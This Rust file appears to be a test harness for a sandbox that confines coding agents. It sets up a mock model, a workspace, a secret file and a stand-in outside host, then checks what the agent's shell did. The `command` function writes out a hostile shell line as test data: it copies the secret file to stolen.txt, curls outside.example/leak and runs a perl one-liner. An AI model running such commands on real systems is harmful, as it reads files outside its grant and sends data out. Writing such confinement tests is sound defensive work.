//! The scene of one run: folders, model, a host and a file outside, and what is checked after.

use std::{
    ffi::OsString,
    io::{Read, Write},
    net::{SocketAddr, TcpListener, TcpStream},
    path::PathBuf,
    process::{Child, Command, Stdio},
    thread,
    time::{Duration, Instant},
};

use remit_testkit::{Area, Finished, Origin, Site, TestAuthority, npm_tools, program};

use crate::agent::Agent;

/// A host that no template lists.
pub const OUTSIDE: &str = "outside.example";

/// What stands in the file that no template grants.
const SECRET: &str = "SECRET-MARKER-7731";

/// What the mock says at the end.
const FINAL: &str = "RC-FINAL";

/// One run's scene; everything ends with it.
pub struct Place {
    area: Area,
    mock: Mock,
    model: Origin,
    outside: Origin,
}

impl Place {
    pub fn new(agent: Agent) -> Self {
        let area = Area::new(agent.name);
        let authority = TestAuthority::new();
        authority.write_bundle(area.path());
        let shell = command(&area);
        Self::with(agent, area, &authority, &shell, FINAL)
    }

    /// The model has the agent run `shell`, and says `last` at the end.
    pub fn with(
        agent: Agent,
        area: Area,
        authority: &TestAuthority,
        shell: &str,
        last: &str,
    ) -> Self {
        area.write("work/notes.txt", "Customer: Ada Lovelace\n");
        area.write("other/secret.txt", SECRET);
        let fixture = agent.fixture(&area, shell, last).to_string();
        let fixture = area.write("model/fixture.json", fixture);
        let mock = Mock::start(&fixture);
        let names = ["api.openai.com", "api.anthropic.com"];
        let model = Origin::tls(authority, "127.0.0.2:443", &names, Site::Forward(mock.address));
        let outside = Origin::tls(authority, "127.0.0.3:443", &[OUTSIDE], Site::Builtin);
        let place = Self { area, mock, model, outside };
        agent.prepare(&place);
        place
    }

    /// Everything that the model was asked.
    pub fn journal(&self) -> String {
        self.mock.journal()
    }

    pub const fn area(&self) -> &Area {
        &self.area
    }

    pub fn bundle(&self) -> PathBuf {
        self.area.path().join("origins.pem")
    }

    /// Without Remit the agent itself must be told of the test's authority.
    pub fn trust_natively(&self) -> [(&'static str, OsString); 2] {
        [("SSL_CERT_FILE", self.bundle().into()), ("NODE_EXTRA_CA_CERTS", self.bundle().into())]
    }

    pub fn must_have_finished(&self, done: &Finished) {
        assert!(done.stdout.contains(FINAL), "no final answer\n{done}\n{}", self.mock.journal());
        assert_eq!(self.area.read("work/proof.txt").as_deref(), Some("ok\n"), "{done}");
        // The file was read by the agent and its contents went to the model as a tool's result.
        assert!(self.model_saw("Ada Lovelace"), "the model never saw the file\n{done}");
    }

    /// Whether that text reached the model, in a request or in a message over a WebSocket.
    pub fn model_saw(&self, text: &str) -> bool {
        let requests = self.model.seen();
        let sent = requests.iter().any(|seen| {
            let head = format!("{} {:?}", seen.path, seen.headers);
            head.contains(text) || String::from_utf8_lossy(&seen.body).contains(text)
        });
        sent || self.mock.journal().contains(text)
    }

    /// Paths that were asked of the model's host as WebSocket.
    pub fn sockets(&self) -> usize {
        let upgraded = |seen: &&remit_testkit::Seen| seen.headers.contains_key("upgrade");
        self.model.seen().iter().filter(upgraded).count()
    }

    pub fn forbidden_must_have_happened(&self, done: &Finished) {
        assert_eq!(self.area.read("work/stolen.txt").as_deref(), Some(SECRET), "{done}");
        assert_eq!(self.area.read("work/ran.txt").as_deref(), Some("ran"), "{done}");
        assert_eq!(self.outside.seen_lines(), ["GET outside.example /leak"], "{done}");
    }

    pub fn forbidden_must_not_have_happened(&self, done: &Finished) {
        let stolen = self.area.read("work/stolen.txt").unwrap_or_default();
        assert!(!stolen.contains(SECRET), "{done}");
        assert!(!self.model_saw(SECRET), "the model saw the secret\n{done}");
        assert_eq!(self.area.read("work/ran.txt"), None, "{done}");
        assert!(self.outside.seen().is_empty(), "{:?}\n{done}", self.outside.seen_lines());
    }
}

/// The command that the model asks the agent's shell tool to run: permitted work, then a file, a
/// host and a program that the template does not name.
pub fn command(area: &Area) -> String {
    let secret = area.path().join("other/secret.txt");
    format!(
        "cat notes.txt; echo ok > proof.txt; cat {} > stolen.txt; \
         curl -sS --max-time 10 https://{OUTSIDE}/leak -o leaked.txt; \
         /usr/bin/perl -e 'open(F, \">ran.txt\"); print F \"ran\"'; true",
        secret.display()
    )
}

/// The model: `@copilotkit/aimock` answering from a fixture.
struct Mock {
    child: Child,
    address: SocketAddr,
}

impl Mock {
    fn start(fixture: &std::path::Path) -> Self {
        let address = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
        let child = Command::new(program("node"))
            .arg(npm_tools().join("@copilotkit/aimock/dist/cli.js"))
            .args(["-p", &address.port().to_string(), "-f"])
            .arg(fixture)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("the mock starts");
        let mock = Self { child, address };
        let started = Instant::now();
        while TcpStream::connect(address).is_err() {
            assert!(started.elapsed() < Duration::from_secs(30), "the mock never listened");
            thread::sleep(Duration::from_millis(50));
        }
        mock
    }

    /// Everything it was asked, as JSON.
    fn journal(&self) -> String {
        let mut text = Vec::new();
        let mut stream = TcpStream::connect(self.address).expect("the mock still runs");
        stream
            .write_all(b"GET /__aimock/journal HTTP/1.0\r\nHost: localhost\r\n\r\n")
            .and_then(|()| stream.read_to_end(&mut text))
            .expect("the mock answers");
        String::from_utf8_lossy(&text).into_owned()
    }
}

impl Drop for Mock {
    fn drop(&mut self) {
        // It may have ended by itself.
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}
